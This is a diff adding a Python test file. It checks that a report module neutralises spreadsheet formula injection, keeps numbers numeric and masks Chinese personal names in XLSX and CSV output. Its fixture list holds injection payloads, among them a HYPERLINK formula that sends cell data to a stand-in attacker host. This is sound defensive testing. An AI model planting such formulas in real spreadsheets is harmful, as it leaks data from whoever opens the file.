@@ -1,0 +1,49 @@
+"""Side files: formulas neutralised per OWASP, numbers kept numeric, personal data masked.
+
+The tests parse the written workbook and CSV back.
+"""
+from __future__ import annotations
+
+import csv
+
+import pandas as pd
+from openpyxl import load_workbook
+
+from calib.report import excel
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]
+
+
+def _frame() -> pd.DataFrame:
+    return pd.DataFrame({"village": HOSTILE, "name": ["=张三", "+李四", "-王五", "@赵六", "\t钱七", "\r孙八"],
+                         "amount": [-1500.0, 2.5, 0, -3, 1e6, 7], "n": [1, -2, 3, 4, 5, 6]})
+
+
+def test_xlsx_has_no_live_formula_and_numbers_stay_numeric(tmp_path):
+    path = excel.write_xlsx({"list": _frame()}, tmp_path / "x.xlsx")
+    ws = load_workbook(path)["list"]
+    rows = list(ws.iter_rows(min_row=2, values_only=False))
+    for row in rows:
+        for c in row:
+            assert c.data_type != "f"
+            if isinstance(c.value, str):
+                assert not c.value.startswith(excel.FORMULA_PREFIXES), c.value
+    assert [r[2].value for r in rows] == [-1500, 2.5, 0, -3, 1e6, 7]
+    assert all(r[2].data_type == "n" and r[3].data_type == "n" for r in rows)
+    names = [r[1].value for r in rows]
+    assert "'=张三" not in names and all("*" in n for n in names)  # masked and neutralised
+
+
+def test_csv_cells_are_neutralised(tmp_path):
+    path = excel.write_csv(_frame(), tmp_path / "x.csv")
+    with open(path, encoding="utf-8-sig", newline="") as fh:
+        rows = list(csv.reader(fh))
+    for row in rows[1:]:
+        assert not row[0].startswith(excel.FORMULA_PREFIXES)
+        assert row[0].startswith("'")
+    assert [float(r[2]) for r in rows[1:]] == [-1500.0, 2.5, 0, -3, 1e6, 7]
+
+
+def test_neutralise_leaves_plain_text_and_numbers():
+    assert excel.neutralise("张村") == "张村" and excel.neutralise(-3) == -3
+    assert excel.neutralise("=1") == "'=1"
